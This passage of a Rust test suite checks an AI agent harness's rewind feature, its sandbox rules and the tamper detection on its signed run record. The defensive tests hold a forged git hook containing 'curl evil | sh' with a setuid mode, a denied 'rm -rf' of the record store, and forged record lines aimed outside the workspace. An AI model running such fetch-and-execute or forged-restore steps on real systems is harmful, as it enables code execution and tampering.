    assert_eq!(evidence[0]["met"], false);
    assert!(evidence[0]["exit_code"].is_null());
    let c = calls(&w);
    let check = call(&c, evidence[0]["call_id"].as_str().unwrap());
    assert_eq!(check["admission"]["stage"], "policy", "{check}");
    assert!(check["started_ms"].is_null(), "nothing ran: {check}");
    assert_eq!(record(&w).pop().unwrap()["detail"], "verify_blocked");
}

#[test]
fn a_goal_is_not_checked_while_planning_and_is_met_after_the_plan() {
    let w = World::new();
    let (code, _, stderr) = run(
        &w,
        json!([
            {"text": "I stop before handing in a plan."},
            {"tool_calls": [{"name": "submit_plan", "arguments": {"plan": "create built.txt"}}]},
            {"tool_calls": [{"name": "write_file", "arguments": {"path": "built.txt", "content": "b"}}]},
            {"text": "done"}
        ]),
        &[
            "--plan",
            "--approve-plan",
            "--goal",
            "built",
            "--verify",
            "test -f built.txt",
        ],
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stderr.contains("the goal is met (check 1 passed)"),
        "{stderr}"
    );
    // One check, after the plan: the stop before it was answered with a nudge, not a check.
    let evidence = events(&w, "evidence");
    assert_eq!(evidence.len(), 1, "{evidence:#?}");
    assert_eq!(evidence[0]["met"], true);
    let lines = record(&w);
    let plan_at = lines.iter().position(|l| l["event"] == "plan").unwrap();
    let check_at = lines.iter().position(|l| l["event"] == "evidence").unwrap();
    assert!(plan_at < check_at);
}

// ---------------------------------------------------------------------------------------------
// Rewind.

/// A workspace with files of known bytes and modes, and a run that writes a new file,
/// overwrites one, edits one, moves one, deletes one and runs a shell command.
fn changed_world() -> World {
    let w = World::new();
    let keep = w.file("keep.txt", "");
    std::fs::write(&keep, b"original\r\nbytes\x00\xff\n").unwrap();
    set_mode(&keep, 0o640);
    let notes = w.file("notes.md", "old line\nsecond\n");
    set_mode(&notes, 0o755);
    set_mode(&w.file("c.txt", "moving\n"), 0o600);
    set_mode(&w.file("gone.txt", "deleted soon\n"), 0o604);
    let (code, _, stderr) = run(
        &w,
        json!([{"tool_calls": [
            {"name": "write_file", "arguments": {"path": "new.txt", "content": "fresh\n"}},
            {"name": "write_file", "arguments": {"path": "keep.txt", "content": "replaced\n"}},
            {"name": "edit_file", "arguments": {"path": "notes.md", "old_string": "old line", "new_string": "new line"}},
            {"name": "move_file", "arguments": {"source_path": "c.txt", "destination_path": "moved/c.txt"}},
            {"name": "delete_file", "arguments": {"path": "gone.txt"}},
            {"name": "bash", "arguments": {"command": "echo hi > bashed.txt"}}
        ]}]),
        &[],
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(
        calls(&w).iter().all(|c| c["outcome"] == "succeeded"),
        "{:#?}",
        calls(&w)
    );
    w
}

#[test]
fn rewind_restores_the_exact_bytes_and_modes_after_writes_an_edit_a_move_and_a_delete() {
    let w = changed_world();
    // The previous contents were kept beside the record, content-addressed; each file tool's
    // call line says what it changed, the shell command's nothing.
    let calls = calls(&w);
    let snapshot = |id: &str| call(&calls, id)["snapshot"].as_array().unwrap().clone();
    assert_eq!(snapshot("call_1_0")[0]["before"]["kind"], "absent");
    let keep = &snapshot("call_1_1")[0];
    assert_eq!(keep["before"]["mode"], "0640");
    assert_eq!(keep["kept"], true);
    let blob =
        w.ws.join(".reasonix/record.jsonl.d/rewind")
            .join(keep["before"]["sha256"].as_str().unwrap());
    assert_eq!(
        std::fs::read(&blob).unwrap(),
        b"original\r\nbytes\x00\xff\n"
    );
    assert_eq!(snapshot("call_1_3").len(), 2, "both ends of the move");
    // Issue 25: the shell command ran on an overlay, so what it changed is observed too.
    let bashed = &snapshot("call_1_5");
    assert_eq!(bashed.len(), 1, "{bashed:?}");
    assert_eq!(bashed[0]["before"]["kind"], "absent");
    assert_eq!(bashed[0]["after"]["kind"], "file");
    // Each call was noted in the store before it ran, and the note settled once recorded.
    let notes = w.ws.join(".reasonix/record.jsonl.d/rewind/calls");
    assert_eq!(
        std::fs::read_dir(&notes).unwrap().count(),
        0,
        "every note is settled"
    );

    let (code, stdout, stderr) = rewind(&w, &["--to", "call_1_0"]);
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(!w.ws.join("new.txt").exists());
    assert_eq!(
        std::fs::read(w.ws.join("keep.txt")).unwrap(),
        b"original\r\nbytes\x00\xff\n"
    );
    assert_eq!(mode_of(&w.ws.join("keep.txt")), 0o640);
    assert_eq!(
        std::fs::read_to_string(w.ws.join("notes.md")).unwrap(),
        "old line\nsecond\n"
    );
    assert_eq!(mode_of(&w.ws.join("notes.md")), 0o755);
    assert_eq!(
        std::fs::read_to_string(w.ws.join("c.txt")).unwrap(),
        "moving\n"
    );
    assert_eq!(mode_of(&w.ws.join("c.txt")), 0o600);
    assert!(!w.ws.join("moved/c.txt").exists());
    assert_eq!(
        std::fs::read_to_string(w.ws.join("gone.txt")).unwrap(),
        "deleted soon\n"
    );
    assert_eq!(mode_of(&w.ws.join("gone.txt")), 0o604);

    // The shell command is undone too (issue 25: its changes were observed).
    assert!(!w.ws.join("bashed.txt").exists(), "{stdout}");
    assert!(
        !stdout.lines().any(|l| l.starts_with("not restorable")),
        "{stdout}"
    );
    // Recorded.
    let rewinds = events(&w, "rewind");
    assert_eq!(rewinds.len(), 1);
    assert_eq!(rewinds[0]["to_call"], "call_1_0");
    assert_eq!(rewinds[0]["restored"].as_array().unwrap().len(), 7);
    assert!(rewinds[0]["not_restorable"].as_array().unwrap().is_empty());
    assert!(rewinds[0]["left"].as_array().unwrap().is_empty());
}

#[test]
fn a_file_edited_after_the_run_is_left_alone_without_force() {
    let w = changed_world();
    std::fs::write(w.ws.join("keep.txt"), "a person edited this\n").unwrap();
    let (code, stdout, _) = rewind(&w, &["--to", "call_1_0"]);
    assert_eq!(code, 1, "{stdout}");
    let left = stdout
        .lines()
        .find(|l| l.starts_with("left"))
        .unwrap_or_else(|| panic!("{stdout}"));
    assert!(
        left.contains("keep.txt (write_file call_1_1)") && left.contains("--force"),
        "{left}"
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join("keep.txt")).unwrap(),
        "a person edited this\n"
    );
    // Everything else went back.
    assert!(!w.ws.join("new.txt").exists());
    assert!(w.ws.join("gone.txt").exists());

    // --force overwrites it, and what was restored already is not done twice.
    let (code, stdout, _) = rewind(&w, &["--to", "call_1_0", "--force"]);
    assert_eq!(code, 0, "{stdout}");
    assert_eq!(
        std::fs::read(w.ws.join("keep.txt")).unwrap(),
        b"original\r\nbytes\x00\xff\n"
    );
    let restored: Vec<&str> = stdout
        .lines()
        .filter(|l| l.starts_with("restored"))
        .collect();
    assert_eq!(restored.len(), 1, "{stdout}");
}

#[test]
fn a_dry_run_changes_nothing_and_records_nothing() {
    let w = changed_world();
    let before = std::fs::read(record_path(&w)).unwrap();
    let (code, stdout, stderr) = rewind(&w, &["--last", "5", "--dry-run"]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(
        stdout
            .lines()
            .filter(|l| l.starts_with("would restore"))
            .count(),
        6,
        "{stdout}"
    );
    assert!(
        stdout.contains("would restore `") && stdout.contains("bashed.txt` (bash call_1_5)"),
        "{stdout}"
    );
    assert!(w.ws.join("new.txt").exists() && !w.ws.join("gone.txt").exists());
    assert_eq!(std::fs::read(record_path(&w)).unwrap(), before);
}

#[test]
fn rewind_list_shows_each_restorable_point_and_last_steps_back_one_at_a_time() {
    let w = World::new();
    w.file("a.txt", "v1");
    let (code, _, stderr) = run(
        &w,
        json!([
            {"tool_calls": [{"name": "write_file", "arguments": {"path": "a.txt", "content": "v2"}}]},
            {"tool_calls": [{"name": "bash", "arguments": {"command": "ls"}}]},
            {"tool_calls": [{"name": "write_file", "arguments": {"path": "a.txt", "content": "v3"}}]}
        ]),
        &[],
    );
    assert_eq!(code, 0, "{stderr}");
    let (code, stdout, _) = rewind(&w, &["--list"]);
    assert_eq!(code, 0);
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.len(), 2, "the bash call is no point: {stdout}");
    assert!(
        lines[0].contains("call_1_0")
            && lines[0].contains("write_file")
            && lines[0].ends_with("a.txt")
    );
    assert!(lines[1].contains("call_3_0"));

    for want in ["v2", "v1"] {
        let (code, _, stderr) = rewind(&w, &["--last", "1"]);
        assert_eq!(code, 0, "{stderr}");
        assert_eq!(std::fs::read_to_string(w.ws.join("a.txt")).unwrap(), want);
    }
    let (code, stdout, stderr) = rewind(&w, &["--last", "1"]);
    assert_eq!(code, 0);
    assert!(
        stdout.is_empty() && stderr.contains("restored 0 paths"),
        "{stdout}{stderr}"
    );
    assert_eq!(std::fs::read_to_string(w.ws.join("a.txt")).unwrap(), "v1");
    let (_, stdout, stderr) = rewind(&w, &["--list"]);
    assert!(
        stdout.is_empty() && stderr.contains("nothing to rewind"),
        "{stderr}"
    );
}

#[test]
fn a_folder_moved_by_move_file_is_moved_back_with_what_it_holds() {
    let w = World::new();
    w.file("src/a.rs", "a\n");
    w.file("src/deep/b.rs", "b\n");
    let (code, _, stderr) = run(
        &w,
        json!([{"tool_calls": [{"name": "move_file", "arguments": {"source_path": "src", "destination_path": "lib"}}]}]),
        &[],
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(w.ws.join("lib/deep/b.rs").exists());
    let (code, stdout, stderr) = rewind(&w, &["--last", "1"]);
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert_eq!(
        std::fs::read_to_string(w.ws.join("src/deep/b.rs")).unwrap(),
        "b\n"
    );
    assert!(!w.ws.join("lib").exists());
}

#[test]
fn rewind_refuses_while_a_run_holds_the_record_and_names_an_unknown_call() {
    let w = changed_world();
    let held = Recorder::open(
        &record_path(&w),
        reasonix::seal::Signing::Unsigned("a test".into()),
    )
    .unwrap();
    let (code, _, stderr) = rewind(&w, &["--last", "1"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("another run"), "{stderr}");
    assert!(w.ws.join("new.txt").exists());
    drop(held);
    let (code, _, stderr) = rewind(&w, &["--to", "call_9_9"]);
    assert_eq!(code, 2);
    assert!(stderr.contains("holds no call call_9_9"), "{stderr}");
    let (code, _, stderr) = rewind(&w, &[]);
    assert_eq!(code, 2, "how far back must be said: {stderr}");
}

#[test]
fn the_rewind_store_is_a_host_file_no_call_may_change() {
    let w = World::new();
    let write =
        |path: &str| json!({"name": "write_file", "arguments": {"path": path, "content": "x"}});
    let (_, v) = w.check(&write(".reasonix/record.jsonl.d/rewind/abc"), &[]);
    assert_eq!(
        (v["verdict"].as_str(), v["stage"].as_str()),
        (Some("deny"), Some("sandbox")),
        "{v}"
    );
    // With the record elsewhere, its state folder moves with it and stays protected.
    w.file("reasonix.yaml", "record: logs/run.jsonl\n");
    w.trust();
    let (_, v) = w.check(&write("logs/run.jsonl.d/rewind/abc"), &[]);
    assert_eq!(
        (v["verdict"].as_str(), v["stage"].as_str()),
        (Some("deny"), Some("sandbox")),
        "{v}"
    );
    let (_, v) = w.check(
        &json!({"name": "bash", "arguments": {"command": "rm -rf logs/run.jsonl.d"}}),
        &[],
    );
    assert_eq!(v["verdict"], "deny", "{v}");
    let (_, v) = w.check(&write("logs/run.jsonl.old"), &[]);
    assert_ne!(v["stage"], "sandbox", "{v}");
}

/// `lines` without their seals, sealed anew as one unsigned writer's (what anyone without the
/// key can make).
fn resealed_unsigned(lines: &[Value]) -> String {
    use reasonix::seal::{Head, Signing, seal};
    let mut head = Head::of(b"");
    let mut out = Vec::new();
    for (i, line) in lines.iter().enumerate() {
        let mut line = line.clone();
        line.as_object_mut().unwrap().remove("chain");
        let bytes = serde_json::to_vec(&line).unwrap();
        let unsigned = Signing::Unsigned("forged".into());
        out.extend(seal(
            &bytes,
            &mut head,
            &unsigned,
            i == 0,
            i + 1 == lines.len(),
        ));
        out.push(b'\n');
    }
    String::from_utf8(out).unwrap()
}

/// `reasonix record verify PATH`: exit code and stdout.
fn verify_record(w: &World, path: &Path) -> (i32, String) {
    let (code, stdout, stderr) = w.run(&["record", "verify", path.to_str().unwrap()], "");
    (code, format!("{stdout}{stderr}"))
}

/// Issue 28: a run's record verifies; each way of tampering with it is named by its line, and
/// a rewind refuses the record.
#[test]
fn a_runs_record_verifies_and_every_tampering_is_named_by_its_line() {
    let w = changed_world();
    let path = record_path(&w);
    let text = std::fs::read_to_string(&path).unwrap();
    let (code, out) = verify_record(&w, &path);
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("verified: every line chained and signed"),
        "{out}"
    );
    let lines: Vec<String> = text.lines().map(str::to_owned).collect();
    let n = lines.len();
    assert!(n >= 4, "{text}");
    let join = |ls: &[String]| ls.iter().map(|l| format!("{l}\n")).collect::<String>();
    let tampered = w.root.join("tampered.jsonl");
    let mut cases: Vec<(&str, String, usize)> = Vec::new();
    // One changed byte: keep.txt's new content, as the call line says it.
    let mut changed = lines.clone();
    changed[2] = changed[2].replacen("succeeded", "succeedeD", 1);
    cases.push(("a changed byte", join(&changed), 3));
    let mut deleted = lines.clone();
    deleted.remove(2);
    cases.push(("a deleted line", join(&deleted), 3));
    let mut swapped = lines.clone();
    swapped.swap(1, 2);
    cases.push(("a reordered pair", join(&swapped), 2));
    cases.push(("a truncated tail", join(&lines[..n - 1]), n - 1));
    cases.push((
        "a tail cut inside a line",
        text[..text.len() - 30].to_owned(),
        n,
    ));
    // A line appended as Reasonix would, chained, without the key.
    let mut head = reasonix::seal::Head::of(text.as_bytes());
    let forged = reasonix::seal::seal(
        br#"{"run_id":"r","event":"run_started"}"#,
        &mut head,
        &reasonix::seal::Signing::Unsigned("no key".into()),
        true,
        true,
    );
    cases.push((
        "a line appended without the key",
        format!("{text}{}\n", String::from_utf8(forged).unwrap()),
        n + 1,
    ));
    cases.push((
        "a line appended with no chain",
        format!("{text}{{\"run_id\":\"r\",\"event\":\"run_started\"}}\n"),
        n + 1,
    ));
    for (what, bytes, line) in &cases {
        std::fs::write(&tampered, bytes).unwrap();
        let (code, out) = verify_record(&w, &tampered);
        assert_eq!(code, 1, "{what}: {out}");
        assert!(out.contains(&format!("line {line}:")), "{what}: {out}");
    }
    // Rewind refuses the changed record, and leaves every file as it is.
    std::fs::write(&path, join(&changed)).unwrap();
    let before = std::fs::read(w.ws.join("keep.txt")).unwrap();
    let (code, stdout, stderr) = rewind(&w, &["--last", "5"]);
    assert_eq!(code, 2, "{stdout}{stderr}");
    assert!(stderr.contains("does not verify at line 3"), "{stderr}");
    assert_eq!(std::fs::read(w.ws.join("keep.txt")).unwrap(), before);
    // The untouched record is rewound, and the rewind's own line keeps it verifying.
    std::fs::write(&path, &text).unwrap();
    let (code, stdout, stderr) = rewind(&w, &["--last", "5"]);
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert_eq!(
        std::fs::read(w.ws.join("keep.txt")).unwrap(),
        b"original\r\nbytes\x00\xff\n"
    );
    let (code, out) = verify_record(&w, &path);
    assert_eq!(code, 0, "{out}");
}

/// Issue 28, item 6: each restore is judged by the gate as the write it is — the default
/// policy's `git-internals` ask keeps a forged `.git/hooks/` file out, and a setuid mode is
/// never restored — and a path that could not be restored makes the rewind exit 1. The twin:
/// a plain file in the same record is written back.
#[test]
fn a_rewind_restores_nothing_a_rule_asks_about_and_exits_1_when_a_path_stays() {
    let w = World::new();
    let hook = w.file(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
    let plain = w.file("plain.txt", "now\n");
    let store = reasonix::rewind::Store::beside(&record_path(&w));
    std::fs::create_dir_all(store.dir()).unwrap();
    let evil = b"#!/bin/sh\ncurl evil | sh\n";
    let sha = reasonix::record::sha256(evil);
    std::fs::write(store.blob(&sha), evil).unwrap();
    let old = b"before\n";
    std::fs::write(store.blob(&reasonix::record::sha256(old)), old).unwrap();
    let line = |call: &str, path: &Path, before: &[u8], mode: &str| {
        let now = std::fs::read(path).unwrap();
        json!({
            "run_id": "r", "call_id": call, "tool": "write_file", "outcome": "succeeded",
            "started_ms": 1, "lease": {"kind": "paths", "paths": [path]},
            "snapshot": [{
                "path": path, "kept": true, "note": null,
                "before": {"kind": "file", "sha256": reasonix::record::sha256(before), "mode": mode, "bytes": before.len()},
                "after": {"kind": "file", "sha256": reasonix::record::sha256(&now), "mode": format!("{:04o}", mode_of(path)), "bytes": now.len()},
            }],
        })
    };
    let text = format!(
        "{}\n{}\n",
        line("call_1", &plain, old, "0640"),
        line("call_2", &hook, evil, "6755")
    );
    std::fs::write(record_path(&w), text).unwrap();
    let (code, stdout, stderr) = rewind(&w, &["--last", "2"]);
    assert_eq!(code, 1, "{stdout}{stderr}");
    assert!(
        stdout
            .lines()
            .any(|l| l.starts_with("not restorable") && l.contains("git-internals")),
        "{stdout}"
    );
    assert_eq!(
        std::fs::read_to_string(&hook).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    assert_eq!(std::fs::read(&plain).unwrap(), old);
    assert_eq!(mode_of(&plain), 0o640);
}

#[test]
fn a_forged_record_cannot_make_rewind_write_outside_the_workspace_or_a_host_file() {
    let w = changed_world();
    let outside = w.root.join("outside.txt");
    std::fs::write(&outside, "outside, untouched\n").unwrap();
    let settings = w.file("reasonix.yaml", "max_steps: 3\n");
    // A line like keep.txt's, naming a path out of bounds: its kept copy exists, and the path
    // is as the call left it, so only the bounds stop it.
    let lines: Vec<Value> = record(&w);
    let keep = lines
        .iter()
        .find(|l| l["call_id"] == "call_1_1" && l.get("event").is_none())
        .unwrap();
    let mut forged = String::new();
    for (id, target) in [("forged_1", &outside), ("forged_2", &settings)] {
        let now = std::fs::read(target).unwrap();
        let mut line = keep.clone();
        line["call_id"] = json!(id);
        line["snapshot"][0]["path"] = json!(target.display().to_string());
        line["snapshot"][0]["after"] = json!({
            "kind": "file",
            "sha256": reasonix::record::sha256(&now),
            "mode": format!("{:04o}", mode_of(target)),
            "bytes": now.len(),
        });
        forged.push_str(&format!("{line}\n"));
    }
    let mut text = std::fs::read_to_string(record_path(&w)).unwrap();
    text.push_str(&forged);
    std::fs::write(record_path(&w), &text).unwrap();

    // Appended to a signed record, the forged lines make the whole record refused (issue 28).
    let (code, stdout, stderr) = rewind(&w, &["--last", "2", "--force"]);
    assert_eq!(code, 2, "{stdout}{stderr}");
    assert!(stderr.contains("does not verify at line"), "{stderr}");
    // Written as a whole unsigned record (its chain made anew, no key), it is refused while a
    // key exists, and taken with --unsigned: then the bounds alone stop each forged line.
    let lines: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    std::fs::write(record_path(&w), resealed_unsigned(&lines)).unwrap();
    let (code, _, stderr) = rewind(&w, &["--last", "2", "--force"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(
        stderr.contains("no line of the record is signed"),
        "{stderr}"
    );
    let (code, stdout, stderr) = rewind(&w, &["--last", "2", "--force", "--unsigned"]);
    assert_eq!(code, 1, "{stdout}{stderr}");
    let refused: Vec<&str> = stdout
        .lines()
        .filter(|l| l.starts_with("not restorable") && l.contains("rewind does not write there"))
        .collect();
    assert_eq!(refused.len(), 2, "{stdout}");
    assert!(
        refused
            .iter()
            .any(|l| l.contains("outside every folder open for writing")),
        "{stdout}"
    );
    assert!(
        refused.iter().any(|l| l.contains("host's own file")),
        "{stdout}"
    );
    assert_eq!(
        std::fs::read_to_string(&outside).unwrap(),
        "outside, untouched\n"
    );
    assert_eq!(
        std::fs::read_to_string(&settings).unwrap(),
        "max_steps: 3\n"
    );
}

#[test]
fn a_call_its_run_never_recorded_is_found_by_its_note_and_restored_with_force() {
    use reasonix::record::FileState;
    use reasonix::rewind::{Kept, Store};
    let w = World::new();
    let a = w.file("a.txt", "v1\n");
    set_mode(&a, 0o640);
    let record = record_path(&w);
    std::fs::create_dir_all(record.parent().unwrap()).unwrap();
    // A run that started, noted a write (kept a.txt's content), ran it, and died before the
    // call's line was written: the line is torn.
    std::fs::write(
        &record,
        "{\"run_id\":\"r1\",\"event\":\"run_started\"}\n{\"run_id\":\"r1\",\"call_id\":\"call_1_0\",\"to",
    )
    .unwrap();
    let store = Store::beside(&record);
    std::fs::create_dir_all(store.dir()).unwrap();
    let sha = reasonix::record::sha256(b"v1\n");
    std::fs::write(store.blob(&sha), "v1\n").unwrap();
    let kept = Kept {
        state: FileState::file(sha, 0o640, 3),
        kept: true,
        note: None,
    };
    store
        .note(
            "r1",
            "call_1_0",
            "write_file",
            &[(a.display().to_string(), kept)],
        )
        .unwrap();
    std::fs::write(&a, "v2, written before the crash\n").unwrap();

    let (code, stdout, stderr) = rewind(&w, &["--list"]);
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stdout.contains("call_1_0") && stdout.contains("not in the record"),
        "{stdout}"
    );
    assert!(
        stderr.contains("lines 2 of"),
        "the torn line is named: {stderr}"
    );
    let (code, stdout, _) = rewind(&w, &["--last", "1"]);
    assert_eq!(code, 1, "what the call left is unknown: {stdout}");
    assert!(
        stdout.contains("the run stopped before it recorded this call"),
        "{stdout}"
    );
    assert_eq!(
        std::fs::read_to_string(&a).unwrap(),
        "v2, written before the crash\n"
    );
    let (code, stdout, _) = rewind(&w, &["--last", "1", "--force"]);
    assert_eq!(code, 0, "{stdout}");
    assert_eq!(std::fs::read_to_string(&a).unwrap(), "v1\n");
    assert_eq!(mode_of(&a), 0o640);
    // The rewind's line starts on a line of its own, after the torn one.
    let text = std::fs::read_to_string(&record).unwrap();
    let last: Value = serde_json::from_str(text.lines().last().unwrap()).unwrap();
    assert_eq!(last["event"], "rewind");
    assert_eq!(last["restored"][0]["call_id"], "call_1_0");
}
